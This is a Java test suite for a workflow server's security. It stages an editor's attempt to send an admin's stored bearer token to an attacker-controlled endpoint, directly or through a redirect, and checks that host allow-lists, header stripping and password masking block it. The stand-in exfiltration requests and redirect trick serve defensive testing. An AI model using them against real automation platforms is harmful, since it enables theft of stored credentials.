package io.scenariobuilder.server.security;

import static io.scenariobuilder.server.ServerHarness.json;
import static org.assertj.core.api.Assertions.assertThat;

import io.scenariobuilder.server.ServerHarness;
import io.scenariobuilder.server.ServerHarness.Response;
import io.vertx.core.http.HttpMethod;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attack from the issue: the admin stores an {@code http} connection with a bearer token; an editor, who can never
 * read it, points an {@code http.request} node that uses it at a server of the editor's own. The token must not
 * arrive there, by any road: not directly, not through a redirect, not by editing the admin's connection, not by
 * lending the connection to another integration.
 */
class CredentialExfiltrationAttackTest {

    static final String TOKEN = "admin-only-token-7f3a9c";

    @TempDir
    Path dir;

    ServerHarness h;
    SecurityAttacks.Upstream attacker;
    SecurityAttacks.Upstream service;
    String editor;

    @BeforeEach
    void start() throws Exception {
        h = new ServerHarness(dir, Map.of());
        SecurityAttacks.upload(h, "sb-plugin-http.jar");
        SecurityAttacks.upload(h, "sb-plugin-catalog.jar");
        attacker = new SecurityAttacks.Upstream(request -> request.response().end("{}"));
        // The service the admin meant: its host is 127.0.0.1, and it redirects /moved to the attacker's server.
        service = new SecurityAttacks.Upstream(request -> {
            if (request.path().equals("/moved")) {
                request.response().setStatusCode(302).putHeader("Location", "http://localhost:" + attacker.port() + "/stolen").end();
            } else {
                request.response().putHeader("Content-Type", "application/json").end("{\"ok\": true}");
            }
        });
        editor = SecurityAttacks.key(h, "editor");
    }

    @AfterEach
    void stop() {
        h.close();
        attacker.close();
        service.close();
    }

    private void adminStores(String allowedHosts) {
        Response stored = h.post("/api/v1/connections", json("""
                {"id": "vault", "integrationId": "http", "name": "Billing API", "credentials": {"token": "%s"}%s}"""
                .formatted(TOKEN, allowedHosts == null ? "" : ", \"allowedHosts\": " + allowedHosts)));
        assertThat(stored.status()).as(stored.text()).isEqualTo(201);
    }

    private int runs;

    private Response editorRuns(String url) {
        String id = "steal-" + ++runs;
        Response saved = h.call(HttpMethod.POST, "/api/v1/scenarios", json("""
                {"id": "%s", "nodes": [{"id": "call", "integrationId": "http", "actionId": "request", "connectionId": "vault",
                  "configuration": {"url": "%s"}, "retryPolicy": {"maxAttempts": 1}}]}""".formatted(id, url)), editor);
        assertThat(saved.status()).as(saved.text()).isIn(200, 201);
        return h.call(HttpMethod.POST, "/api/v1/scenarios/" + id + "/executions?wait=true", json("{}"), editor);
    }

    private boolean tokenArrivedAtTheAttacker() {
        return attacker.requests.stream().anyMatch(r -> r.values().stream().anyMatch(v -> v.contains(TOKEN)));
    }

    @Test
    void aConnectionWithoutAllowedHostsSendsItsTokenNowhereAndNothingIsSent() {
        adminStores(null);
        Response run = editorRuns(attacker.url("/collect"));
        assertThat(run.body().get("status").asText()).isEqualTo("failed");
        assertThat(run.body().at("/nodes/0/error/type").asText()).isEqualTo("forbidden_host");
        assertThat(run.body().at("/nodes/0/error/message").asText()).contains("127.0.0.1").doesNotContain(TOKEN);
        assertThat(attacker.requests).as("nothing is sent before the host is checked").isEmpty();
    }

    @Test
    void aHostTheConnectionDoesNotAllowGetsNothing() {
        adminStores("[\"api.billing.example\"]");
        Response run = editorRuns(attacker.url("/collect"));
        assertThat(run.body().at("/nodes/0/error/type").asText()).isEqualTo("forbidden_host");
        assertThat(attacker.requests).isEmpty();
    }

    @Test
    void anAllowedHostGetsTheTokenButARedirectElsewhereDropsIt() {
        adminStores("[\"127.0.0.1\"]");
        Response direct = editorRuns(service.url("/orders"));
        assertThat(direct.body().get("status").asText()).as(direct.text()).isEqualTo("completed");
        assertThat(service.requests.get(0).get("Authorization")).isEqualTo("Bearer " + TOKEN);

        Response redirected = editorRuns(service.url("/moved"));
        assertThat(redirected.body().get("status").asText()).as(redirected.text()).isEqualTo("completed");
        assertThat(attacker.requests).as("the redirect was followed").hasSize(1);
        assertThat(attacker.requests.get(0)).doesNotContainKey("Authorization");
        assertThat(tokenArrivedAtTheAttacker()).isFalse();
    }

    @Test
    void theEditorCannotWidenTheAdminsConnectionNorDeleteIt() {
        adminStores("[\"api.billing.example\"]");
        Response widened = h.call(HttpMethod.PUT, "/api/v1/connections/vault", json("""
                {"integrationId": "http", "name": "Billing API", "credentials": {"token": "x"}, "allowedHosts": ["*"]}"""), editor);
        assertThat(widened.status()).isEqualTo(403);
        assertThat(widened.body().at("/error/message").asText()).contains("created by another key");
        assertThat(h.call(HttpMethod.DELETE, "/api/v1/connections/vault", null, editor).status()).isEqualTo(403);
        assertThat(h.get("/api/v1/connections/vault").body().get("allowedHosts").get(0).asText()).isEqualTo("api.billing.example");

        // Its own connection, the editor manages: create, change, delete.
        assertThat(h.call(HttpMethod.POST, "/api/v1/connections", json("""
                {"id": "mine", "integrationId": "http", "credentials": {"token": "t"}, "allowedHosts": ["a.example"]}"""), editor)
                .status()).isEqualTo(201);
        assertThat(h.call(HttpMethod.PUT, "/api/v1/connections/mine", json("""
                {"integrationId": "http", "credentials": {"token": "u"}, "allowedHosts": ["b.example"]}"""), editor).status()).isEqualTo(200);
        assertThat(h.call(HttpMethod.DELETE, "/api/v1/connections/mine", null, editor).status()).isEqualTo(204);
        // And the admin may change anyone's.
        assertThat(h.call(HttpMethod.PUT, "/api/v1/connections/vault", json("""
                {"integrationId": "http", "credentials": {"token": "y"}, "allowedHosts": ["api.billing.example"]}"""),
                ServerHarness.ADMIN_KEY).status()).isEqualTo(200);
    }

    @Test
    void aConnectionCannotBeLentToAnotherIntegration() {
        adminStores("[\"127.0.0.1\"]");
        Response saved = h.call(HttpMethod.POST, "/api/v1/scenarios", json("""
                {"id": "lend", "nodes": [{"id": "pick", "integrationId": "catalog", "actionId": "pick-item", "connectionId": "vault",
                  "configuration": {"category": "mice", "product": "MS-TRV", "variant": "MS-TRV-GRY", "quantity": 1}}]}"""), editor);
        assertThat(saved.status()).as(saved.text()).isEqualTo(400);
        assertThat(saved.body().at("/error/details")).anySatisfy(d -> {
            assertThat(d.get("path").asText()).isEqualTo("$.nodes[0].connectionId");
            assertThat(d.get("message").asText()).contains("integration 'http'");
        });
        Response missing = h.call(HttpMethod.POST, "/api/v1/scenarios/validate", json("""
                {"nodes": [{"id": "a", "integrationId": "http", "actionId": "request", "connectionId": "nope",
                  "configuration": {"url": "https://example.com"}}]}"""), editor);
        assertThat(missing.body().get("errors").toString()).contains("$.nodes[0].connectionId", "does not exist");
    }

    @Test
    void aPasswordInAUrlIsMaskedInEveryErrorAndLog() {
        Response saved = h.post("/api/v1/scenarios", json("""
                {"id": "userinfo", "nodes": [{"id": "call", "integrationId": "http", "actionId": "request",
                  "configuration": {"url": "http://ada:pa55-w0rd-xyz@127.0.0.1:1/orders"}, "retryPolicy": {"maxAttempts": 1}}]}"""));
        assertThat(saved.status()).as(saved.text()).isEqualTo(201);
        Response run = h.post("/api/v1/scenarios/userinfo/executions?wait=true", json("{}"));
        assertThat(run.body().get("status").asText()).isEqualTo("failed");
        String id = run.body().get("id").asText();
        assertThat(run.text()).doesNotContain("pa55-w0rd-xyz");
        assertThat(h.get("/api/v1/executions/" + id + "/logs").text()).doesNotContain("pa55-w0rd-xyz");
        assertThat(run.body().at("/nodes/0/error/message").asText()).contains("127.0.0.1");

        // A refused scenario whose problem quotes the value: masked in the answer too.
        Response refused = h.post("/api/v1/scenarios", json("""
                {"nodes": [{"id": "pick", "integrationId": "catalog", "actionId": "pick-item",
                  "configuration": {"category": "https://ada:pa55-w0rd-xyz@files.example/x", "product": "p", "variant": "v",
                  "quantity": 1}}]}"""));
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.text()).contains("files.example").doesNotContain("pa55-w0rd-xyz");
        Response validated = h.post("/api/v1/scenarios/validate", json("""
                {"nodes": [{"id": "pick", "integrationId": "catalog", "actionId": "pick-item",
                  "configuration": {"category": "https://ada:pa55-w0rd-xyz@files.example/x", "product": "p", "variant": "v",
                  "quantity": 1}}]}"""));
        assertThat(validated.text()).contains("files.example").doesNotContain("pa55-w0rd-xyz");

        // An engine error that quotes the expression (with its URL) at run time.
        assertThat(h.post("/api/v1/scenarios", json("""
                {"id": "quoted", "nodes": [{"id": "t", "integrationId": "core", "actionId": "transform",
                  "configuration": {"expression": "'https://ada:pa55-w0rd-xyz@files.example' & $nope()"}}]}""")).status()).isEqualTo(201);
        Response quoted = h.post("/api/v1/scenarios/quoted/executions?wait=true", json("{}"));
        assertThat(quoted.body().at("/nodes/0/error/message").asText()).contains("files.example");
        assertThat(quoted.text()).doesNotContain("pa55-w0rd-xyz");
    }

    @Test
    void badHostPatternsAreRefusedWhenTheConnectionIsSaved() {
        for (String bad : new String[] {"[\"https://a.example/x\"]", "[\"user@a.example\"]", "[\"a.example:0\"]", "\"a.example\"", "[\"\"]"}) {
            Response refused = h.post("/api/v1/connections", json("""
                    {"integrationId": "http", "credentials": {"token": "t"}, "allowedHosts": %s}""".formatted(bad)));
            assertThat(refused.status()).as(bad).isEqualTo(400);
            assertThat(refused.body().at("/error/message").asText()).as(bad).contains("allowedHosts");
        }
    }
}
